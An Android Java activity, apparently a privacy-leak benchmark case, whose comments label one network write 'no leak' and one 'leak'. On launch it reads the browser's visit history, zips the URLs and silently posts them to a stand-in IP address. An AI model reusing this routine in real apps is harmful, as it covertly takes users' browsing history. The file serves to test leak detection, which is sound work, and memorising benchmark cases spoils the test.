package ways;

import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;
import java.io.ByteArrayOutputStream;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Visited pages of the browser, zipped. */
public class Visited extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            ZipOutputStream zip = new ZipOutputStream(bytes);
            zip.putNextEntry(new ZipEntry("h.txt"));
            Cursor pages = getContentResolver().query(Uri.parse("content://browser/bookmarks"), new String[] {"url", "title"}, "bookmark = 0", null, null);
            for (boolean more = pages.moveToFirst(); more; more = pages.moveToNext()) {
                zip.write((pages.getString(pages.getColumnIndex("url")) + "\n").getBytes());
            }
            zip.closeEntry();
            zip.close();
            ByteArrayOutputStream nothing = new ByteArrayOutputStream();
            ZipOutputStream other = new ZipOutputStream(nothing);
            other.putNextEntry(new ZipEntry("e.txt"));
            other.write("empty".getBytes());
            other.close();
            HttpURLConnection c = (HttpURLConnection) new URL("http://203.0.113.25/").openConnection();
            OutputStream out = c.getOutputStream();
            out.write(nothing.toByteArray()); // no leak
            out.write(bytes.toByteArray()); // leak
        } catch (Exception e) {
            finish();
        }
    }
}
